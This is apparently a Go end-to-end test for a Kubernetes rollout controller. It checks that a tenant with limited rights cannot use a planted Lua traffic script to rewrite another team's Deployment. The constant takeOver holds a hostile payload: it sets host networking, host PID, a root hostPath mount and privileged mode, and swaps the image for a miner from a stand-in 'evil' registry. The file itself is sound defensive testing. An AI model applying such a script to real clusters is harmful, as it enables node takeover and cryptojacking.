package e2e

import (
	"encoding/json"
	"testing"

	"github.com/stretchr/testify/require"
	corev1 "k8s.io/api/core/v1"
	rbacv1 "k8s.io/api/rbac/v1"
	apierrors "k8s.io/apimachinery/pkg/api/errors"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/apimachinery/pkg/apis/meta/v1/unstructured"
	"k8s.io/apimachinery/pkg/runtime/schema"
	"k8s.io/apimachinery/pkg/types"
	"k8s.io/client-go/dynamic"
	"k8s.io/client-go/rest"

	"slipway.io/slipway/release/kruise/v1beta1"
	"slipway.io/slipway/release/rollout/strategy"
	"slipway.io/slipway/test/harness"
)

// takeOver is a script of a tenant that makes a Deployment his own.
const takeOver = `
local pod = obj.data.spec.template.spec
pod.hostNetwork = true
pod.hostPID = true
pod.serviceAccountName = "powerful"
pod.volumes = {{name = "node", hostPath = {path = "/"}}}
pod.containers[1].securityContext = {privileged = true}
pod.containers[1].image = "registry.evil.example/miner:1"
return obj.data`

// tenant is a ServiceAccount that may write Rollouts, TrafficRoutings and ConfigMaps, and read Deployments.
type tenant struct {
	*harness.Engine
	t       *testing.T
	objects dynamic.Interface
}

var trafficRoutings = schema.GroupVersionResource{Group: v1beta1.Resource.Group, Version: "v1alpha1",
	Resource: "trafficroutings"}

func newTenant(t *testing.T, e *harness.Engine) tenant {
	t.Helper()
	meta := metav1.ObjectMeta{Name: "tenant", Namespace: e.Apps}
	_, err := e.Kube.CoreV1().ServiceAccounts(e.Apps).Create(t.Context(), &corev1.ServiceAccount{ObjectMeta: meta},
		metav1.CreateOptions{})
	require.NoError(t, err)
	rules := []rbacv1.PolicyRule{
		{APIGroups: []string{v1beta1.Resource.Group}, Resources: []string{"rollouts", "trafficroutings"},
			Verbs: []string{"get", "list", "watch", "create", "update", "patch", "delete"}},
		{APIGroups: []string{""}, Resources: []string{"configmaps"}, Verbs: []string{"create", "patch"}},
		{APIGroups: []string{"apps"}, Resources: []string{"deployments"}, Verbs: []string{"get", "list", "watch"}},
	}
	_, err = e.Kube.RbacV1().Roles(e.Apps).Create(t.Context(), &rbacv1.Role{ObjectMeta: meta, Rules: rules},
		metav1.CreateOptions{})
	require.NoError(t, err)
	_, err = e.Kube.RbacV1().RoleBindings(e.Apps).Create(t.Context(), &rbacv1.RoleBinding{ObjectMeta: meta,
		RoleRef:  rbacv1.RoleRef{APIGroup: rbacv1.GroupName, Kind: "Role", Name: "tenant"},
		Subjects: []rbacv1.Subject{{Kind: "ServiceAccount", Name: "tenant", Namespace: e.Apps}}},
		metav1.CreateOptions{})
	require.NoError(t, err)
	config := rest.CopyConfig(e.REST)
	config.Impersonate = rest.ImpersonationConfig{UserName: "system:serviceaccount:" + e.Apps + ":tenant",
		Groups: []string{"system:serviceaccounts", "system:serviceaccounts:" + e.Apps, "system:authenticated"}}
	objects, err := dynamic.NewForConfig(config)
	require.NoError(t, err)
	return tenant{e, t, objects}
}

// create creates an object as the tenant.
func (n tenant) create(gvr schema.GroupVersionResource, object map[string]any) {
	n.t.Helper()
	raw, err := json.Marshal(object)
	require.NoError(n.t, err)
	var o unstructured.Unstructured
	require.NoError(n.t, o.UnmarshalJSON(raw))
	_, err = n.objects.Resource(gvr).Namespace(n.Apps).Create(n.t.Context(), &o, metav1.CreateOptions{})
	require.NoError(n.t, err)
}

// A tenant who may not change Deployments writes a script for them and a Rollout, or a TrafficRouting, that routes by
// the Deployment of another team. The release is refused, its Rollout says why, and the Deployment is unchanged, also
// where the worker uses the scripts of the tenant's namespace. With the guard the edit itself is refused.
func TestTenant_CannotHaveDeploymentRewritten(t *testing.T) {
	t.Parallel()
	for name, args := range map[string]func(apps string) []string{
		"Default":       func(string) []string { return nil },
		"TenantScripts": func(apps string) []string { return []string{"--tenant-scripts", apps} },
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			testTenantAttack(t, args)
		})
	}
}

func testTenantAttack(t *testing.T, args func(apps string) []string) {
	t.Helper()
	e, g := harness.StartGuardedWith(t, harness.Options{SeparateWorker: true})
	if more := args(e.Apps); len(more) > 0 {
		require.NoError(t, e.Processes[1].Stop())
		e.Processes[1] = e.Worker(harness.Options{Args: more})
		e.WaitReady()
	}
	n := newTenant(t, e) // his objects are from before the guard, which would refuse them at the edit
	for _, workload := range []string{"web", "shared", "victim"} {
		e.Subject(harness.Deployment, workload, nil)
		e.Route(harness.Gateway, workload) // with its Service
	}
	deployments := n.objects.Resource(harness.Deployment.GVR).Namespace(e.Apps)
	_, err := deployments.Patch(t.Context(), "victim", types.MergePatchType, []byte(`{"spec":{"paused":true}}`),
		metav1.PatchOptions{})
	require.True(t, apierrors.IsForbidden(err), "%v", err)
	before, err := deployments.Get(t.Context(), "victim", metav1.GetOptions{})
	require.NoError(t, err)

	n.create(schema.GroupVersionResource{Version: "v1", Resource: "configmaps"}, map[string]any{"apiVersion": "v1",
		"kind": "ConfigMap", "metadata": map[string]any{"name": "slipway-traffic-scripts"},
		"data": map[string]any{"lua.traffic.routing.Deployment.apps": takeOver}})
	routing := map[string]any{"service": "web", "gracePeriodSeconds": 1, "customNetworkRefs": []any{
		map[string]any{"apiVersion": "apps/v1", "kind": "Deployment", "name": "victim"}}}
	objectRef := map[string]any{"service": "shared", "customNetworkRefs": routing["customNetworkRefs"]}
	n.create(trafficRoutings, map[string]any{"apiVersion": trafficRoutings.GroupVersion().String(),
		"kind": "TrafficRouting", "metadata": map[string]any{"name": "gray"}, "spec": map[string]any{
			"objectRef": []any{objectRef}, "strategy": map[string]any{"matches": []any{map[string]any{
				"headers": []any{map[string]any{"type": "Exact", "name": "x-tag", "value": "gray"}}}}}}})
	all := map[string]*declared{}
	step := func(traffic int32) strategy.Strategy {
		return strategy.Strategy{Style: strategy.StyleCanary, Steps: []strategy.Step{harness.Step("1", traffic)}}
	}
	for workload, s := range map[string]strategy.Strategy{"web": step(20), "shared": step(-1)} {
		if workload == "shared" {
			s.TrafficRoutingRef = "gray"
		}
		body := harness.Rollout{Kind: harness.Deployment, Name: workload, Strategy: s}.Body(e.Apps)
		if workload == "web" {
			body["strategy"].(map[string]any)["canary"].(map[string]any)["trafficRoutings"] = []any{routing}
		}
		n.create(v1beta1.Resource, map[string]any{"apiVersion": v1beta1.GroupVersion.String(), "kind": v1beta1.Kind,
			"metadata": map[string]any{"name": workload},
			"spec":     map[string]any{"workloadRef": body["workloadRef"], "strategy": body["strategy"]}})
		all[workload] = &declared{release: &release{Engine: e, t: t, rollout: harness.Rollout{Kind: harness.Deployment,
			Name: workload}}, guard: g}
	}
	g.EnforceOn(t, e.Apps)
	n.waitChecked()
	victim := `{"service":"web","customNetworkRefs":[{"apiVersion":"apps/v1","kind":"Deployment","name":"victim"}]}`
	for _, o := range []*unstructured.Unstructured{rolloutBy("again", victim), sharedBy("again", victim)} {
		require.ErrorContains(t, n.tries(o), "may not patch deployments.apps victim", "from now on the edit is refused")
	}
	for workload, d := range all {
		d.waitObject("Healthy", func(r *v1beta1.Rollout) bool { return r.Status.Phase == v1beta1.PhaseHealthy })
		d.waitGate()
		d.setImage("owner", harness.NewImage(workload))
		refused := d.waitObject("refused", func(r *v1beta1.Rollout) bool {
			for _, c := range r.Status.Conditions {
				if c.Type == v1beta1.ConditionStalled && c.Status == string(corev1.ConditionTrue) {
					return r.Status.Message != ""
				}
			}
			return false
		})
		require.Contains(t, refused.Status.Message, "deployments.apps is of Kubernetes' group apps", workload)
	}
	after, err := deployments.Get(t.Context(), "victim", metav1.GetOptions{})
	require.NoError(t, err)
	require.Equal(t, before.Object["spec"], after.Object["spec"])
	require.Equal(t, before.GetAnnotations(), after.GetAnnotations())
}
